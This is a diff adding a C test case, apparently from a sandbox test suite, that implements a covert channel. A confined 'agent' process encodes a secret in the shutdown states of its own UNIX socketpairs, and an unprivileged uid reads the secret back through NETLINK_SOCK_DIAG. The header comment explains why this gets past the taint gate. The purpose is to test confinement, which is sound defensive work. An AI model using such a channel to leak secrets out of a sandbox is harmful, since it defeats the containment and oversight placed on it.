@@ -1,0 +1,156 @@
+// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
+/* unix_pair_shutdown - shutdown(2) state of the agent's OWN socketpairs, read through sock_diag:
+ * after the recv the agent makes one AF_UNIX SOCK_STREAM socketpair per canary bit and shuts
+ * its first end SHUT_RD (bit 0: the ends read RCV=1 / SEND=2) or SHUT_RDWR (bit 1: both ends
+ * 3). A socketpair is a connected stream socket (getpeername succeeds), so once tainted the
+ * launcher's gate does the shutdown itself on its copy (run_gate.c tainted_shutdown): the state
+ * is set all the same. NETLINK_SOCK_DIAG (unix_diag: UNIX_DIAG_SHUTDOWN always, UDIAG_SHOW_PEER)
+ * dumps every UNIX socket of the network namespace to every user, with its inode, its peer's
+ * inode and its sk_shutdown.
+ * Verifier: uid 65534 dumps the established UNIX stream sockets at sync "set", keeps the pairs
+ * (ino, peer) with a shutdown state, orders them by inode (a socketpair's inodes are allocated
+ * in call order) and looks for the canary's bytes at every bit offset.
+ * Unlike the known residual (2 bits per connection the scope let the agent make, the peer judged
+ * at connect), a socketpair has no peer to judge and costs nothing: the fd limit bounds the pairs
+ * held at once (~500), and the agent can close them and make more after each read.
+ * Threat model: docs/threat-model.md (sock_diag state). */
+#include <stdint.h>
+#include <time.h>
+#include <sys/socket.h>
+#include <linux/netlink.h>
+#include <linux/rtnetlink.h>
+#include <linux/sock_diag.h>
+#include <linux/unix_diag.h>
+
+#include "atk.h"
+
+#define UP_BITS 112 /* "mk" + 12 hex: 14 bytes */
+#define UP_MAX 4096
+
+static int agent(struct atk_ctx *c)
+{
+    static int sv[UP_BITS][2];
+    size_t n = strlen(c->secret);
+    if (n * 8 > UP_BITS)
+        n = UP_BITS / 8;
+    int done = 0, bad = 0;
+    struct timespec t0, t1;
+    clock_gettime(CLOCK_MONOTONIC, &t0);
+    for (size_t i = 0; i < n * 8; i++) {
+        int bit = ((unsigned char)c->secret[i / 8] >> (7 - i % 8)) & 1;
+        if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sv[i]) != 0) {
+            atk_try(c, "socketpair", -1);
+            return 0;
+        }
+        if (shutdown(sv[i][0], bit ? SHUT_RDWR : SHUT_RD) == 0)
+            done++;
+        else
+            bad = errno;
+    }
+    clock_gettime(CLOCK_MONOTONIC, &t1);
+    long us = (t1.tv_sec - t0.tv_sec) * 1000000L + (t1.tv_nsec - t0.tv_nsec) / 1000;
+    atk_say(c, "note shutdown on %d socketpair ends ok in %ld us, last error %d", done, us, bad);
+    atk_sync(c, "set"); /* the pairs stay open until the agent exits */
+    return 0;
+}
+
+struct up_sock {
+    uint32_t ino, peer;
+    int sd;
+};
+
+static int up_cmp(const void *a, const void *b)
+{
+    const struct up_sock *x = a, *y = b;
+    return x->ino < y->ino ? -1 : x->ino > y->ino;
+}
+
+/* every established UNIX stream socket with its peer and shutdown state; the count, or -1 */
+static int up_dump(struct up_sock *out, int cap)
+{
+    int s = socket(AF_NETLINK, SOCK_DGRAM | SOCK_CLOEXEC, NETLINK_SOCK_DIAG);
+    if (s < 0)
+        return -1;
+    struct {
+        struct nlmsghdr h;
+        struct unix_diag_req r;
+    } req = {.h = {.nlmsg_len = sizeof(req), .nlmsg_type = SOCK_DIAG_BY_FAMILY, .nlmsg_flags = NLM_F_REQUEST | NLM_F_DUMP},
+             .r = {.sdiag_family = AF_UNIX,
+                   .udiag_states = 1u << 1 /* TCP_ESTABLISHED */,
+                   .udiag_show = UDIAG_SHOW_PEER}}; /* UNIX_DIAG_SHUTDOWN is always sent */
+    if (send(s, &req, sizeof(req), 0) != (ssize_t)sizeof(req)) {
+        close(s);
+        return -1;
+    }
+    static char buf[1 << 16];
+    int got = 0;
+    for (;;) {
+        ssize_t r = recv(s, buf, sizeof(buf), 0);
+        if (r <= 0)
+            break;
+        for (struct nlmsghdr *h = (struct nlmsghdr *)buf; NLMSG_OK(h, (size_t)r); h = NLMSG_NEXT(h, r)) {
+            if (h->nlmsg_type == NLMSG_DONE || h->nlmsg_type == NLMSG_ERROR) {
+                close(s);
+                return got;
+            }
+            const struct unix_diag_msg *m = NLMSG_DATA(h);
+            if (m->udiag_type != SOCK_STREAM || got >= cap)
+                continue;
+            int alen = (int)(h->nlmsg_len - NLMSG_LENGTH(sizeof(*m)));
+            struct up_sock u = {m->udiag_ino, 0, 0};
+            for (struct rtattr *at = (struct rtattr *)(m + 1); RTA_OK(at, alen); at = RTA_NEXT(at, alen)) {
+                if (at->rta_type == UNIX_DIAG_PEER && RTA_PAYLOAD(at) >= 4)
+                    memcpy(&u.peer, RTA_DATA(at), 4);
+                else if (at->rta_type == UNIX_DIAG_SHUTDOWN && RTA_PAYLOAD(at) >= 1)
+                    u.sd = *(const unsigned char *)RTA_DATA(at) & 3;
+            }
+            if (u.sd != 0 && u.peer != 0 && u.ino < u.peer)
+                out[got++] = u;
+        }
+    }
+    close(s);
+    return got;
+}
+
+static int rd(struct atk_ctx *c, char *out, size_t n)
+{
+    static struct up_sock u[UP_MAX];
+    int k = up_dump(u, UP_MAX);
+    if (k <= 0)
+        return 0;
+    qsort(u, (size_t)k, sizeof(u[0]), up_cmp);
+    size_t cl = strlen(c->canary);
+    for (int off = 0; off + (int)cl * 8 <= k; off++) {
+        char got[32] = {0};
+        for (size_t i = 0; i < cl * 8 && i < 8 * (sizeof(got) - 1); i++)
+            if (u[off + (int)i].sd == 3)
+                got[i / 8] = (char)((unsigned char)got[i / 8] | (1u << (7 - i % 8)));
+        if (strcmp(got, c->canary) == 0) {
+            snprintf(out, n,
+                     "uid 65534 read the canary from the shutdown state of %zu socketpairs (NETLINK_SOCK_DIAG "
+                     "UNIX_DIAG_SHUTDOWN, ordered by inode; %d shut pairs in the dump)",
+                     cl * 8, k);
+            return 1;
+        }
+    }
+    return 0;
+}
+
+static void on_sync(struct atk_ctx *c, const char *tag)
+{
+    if (strcmp(tag, "set") != 0)
+        return;
+    char out[240];
+    if (atk_as_uid(c, ATK_NOBODY, rd, out, sizeof(out)) == 1)
+        atk_evidence(c, "%s", out);
+}
+
+static const struct atk A = {"unix_pair_shutdown",
+                             "shutdown(2) state of the agent's own socketpairs, read through unix sock_diag",
+                             0,
+                             NULL,
+                             agent,
+                             on_sync,
+                             NULL,
+                             NULL};
+ATK_MAIN(A)
